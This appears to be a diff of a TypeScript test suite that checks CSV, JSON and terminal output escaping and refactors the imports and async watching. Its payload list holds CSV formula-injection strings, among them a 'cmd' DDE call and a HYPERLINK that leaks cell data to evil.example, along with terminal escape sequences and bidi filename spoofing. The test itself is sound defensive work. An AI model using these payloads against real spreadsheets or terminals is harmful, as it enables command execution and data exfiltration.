@@ -8,28 +8,48 @@
  * formula, and each is one cell; no export, log line or table of the command line holds a control character; what was
  * written can still be read.
  */
-import { randomBytes } from 'node:crypto';
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
-import { mintToken } from '../../src/audit/secrets.ts';
-import { csvLine, visible } from '../../src/http/csv.ts';
-import { table } from '../../src/main/table.ts';
-import { aTurn } from '../audit/temporary-store.ts';
+import { table } from '../../src/cli/table.ts';
+import { escapeInFile } from '../../src/contract/escape.ts';
+import { csvLine } from '../../src/http/csv.ts';
+import { cliEnv, runCli } from '../cli/run-cli.ts';
 import { aPerson, call, runServer } from '../http/running-server.ts';
-import { cliEnv, runCli } from '../main/run-cli.ts';
+import { aTurn } from '../store/temporary-store.ts';
+import { aToken } from '../support/credentials.ts';
 import { startTestGateway } from '../support/gateway.ts';
 
 const orders = [
-  ...['=cmd|"/C calc"!A0', '=HYPERLINK("https://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'],
-  ...['  =1+1', '\n=1+1', '＝1+1', '|calc', '%0A=1', '"=1+1', '";=1+1;"', '","=1+1', 'a\r\n=1+1,b', "'=1+1"],
-  ...[
-    '\u001b]0;owned\u0007',
-    '\u001b[2J\u001b[H',
-    '\u001b]8;;https://evil.example\u001b\\click',
-    '\u009b31m',
-    '\u0008\u0008',
-  ],
-  ...['\u202egnp.exe', '\u2066x\u2069', 'a\u2028b', '\ufeff=1+1', '\u0000', '\u007f', '\u000b', '\u0085'],
+  '=cmd|"/C calc"!A0',
+  '=HYPERLINK("https://evil.example/?"&A1)',
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '\n=1+1',
+  '＝1+1',
+  '|calc',
+  '%0A=1',
+  '"=1+1',
+  '";=1+1;"',
+  '","=1+1',
+  'a\r\n=1+1,b',
+  "'=1+1",
+  '\u001b]0;owned\u0007',
+  '\u001b[2J\u001b[H',
+  '\u001b]8;;https://evil.example\u001b\\click',
+  '\u009b31m',
+  '\u0008\u0008',
+  '\u202egnp.exe',
+  '\u2066x\u2069',
+  'a\u2028b',
+  '\ufeff=1+1',
+  '\u0000',
+  '\u007f',
+  '\u000b',
+  '\u0085',
 ];
 
 test('T14: an export of what was said gives no orders, and loses nothing', { timeout: 60_000 }, async () => {
@@ -43,15 +63,13 @@ test('T14: an export of what was said gives no orders, and loses nothing', { tim
     });
     if (asked.status !== 202) continue; // empty once it was made safe
     said.push((await server.store.turns.get(asked.json.turnId))?.message ?? '');
-    const over = new Promise<void>((resolve) => {
-      const stop = server.turns.watch((events) => {
-        if (!events.some(({ event }) => event.type === 'finished')) return;
-        stop();
-        resolve();
-      });
+    const over = Promise.withResolvers<void>();
+    const stop = await server.turns.watch((events) => {
+      if (events.some(({ event }) => event.type === 'finished')) over.resolve();
     });
     await server.agent.answer(asked.json.turnId, `${order}\n\n${order}`);
-    await over;
+    await over.promise;
+    stop();
     server.clock.now += 1000;
   }
   expect(said.length).toBeGreaterThan(20);
@@ -66,7 +84,7 @@ test('T14: an export of what was said gives no orders, and loses nothing', { tim
   }
   expect(csv.text).not.toMatch(CONTROL);
   const messages = lines.map((line) => line[head.indexOf('message')]?.replace(/^'/, ''));
-  expect(messages.reverse()).toEqual(said.map(visible).map((text) => text.replace(/^'/, '')));
+  expect(messages.reverse()).toEqual(said.map(escapeInFile).map((text) => text.replace(/^'/, '')));
   const json = await call(server, 'GET', '/api/admin/turns/export?format=json', { headers: owner.bearer });
   expect(json.text).not.toMatch(CONTROL);
   expect(
@@ -95,7 +113,7 @@ test('T14: whatever a cell holds, it is one cell and no formula', () => {
       expect(row).toHaveLength(cells.length);
       for (const [index, cell] of row.entries()) {
         expect(cell).not.toMatch(/^\s*[=+\-@|%＝＋－＠]|^\t/);
-        expect(cell.replace(/^'/, '')).toBe(visible(cells[index] ?? '').replace(/^'/, ''));
+        expect(cell.replace(/^'/, '')).toBe(escapeInFile(cells[index] ?? '').replace(/^'/, ''));
       }
     }),
     { numRuns: 2000 },
@@ -112,13 +130,11 @@ test('T14: a table of the command line holds no order to the terminal', () => {
 
 test('T14: no command prints an order, whoever wrote it', { timeout: 120_000 }, async () => {
   await using own = await startTestGateway({ env: { PALIADIN_AGENT: 'none' } });
-  const { users, turns, sessions, signIn, audit } = await own.store();
+  const store = await own.store();
+  const { users, turns, sessions, audit } = store;
   const name = orders.join('x');
   const { user } = await users.ensure({ subject: `eve${name}`, name, email: name, now: 1 });
-  await mintToken(
-    { signIn, random: randomBytes, now: 1 },
-    { userId: user.id, name, scopes: ['read'], expiresAt: null },
-  );
+  await aToken(store, user.subject, { name, scopes: ['read'], clock: () => 1 });
   await audit.append([
     { at: 1, actor: name, action: 'user.created', subject: user.id, turnId: null, detail: { name } },
   ]);
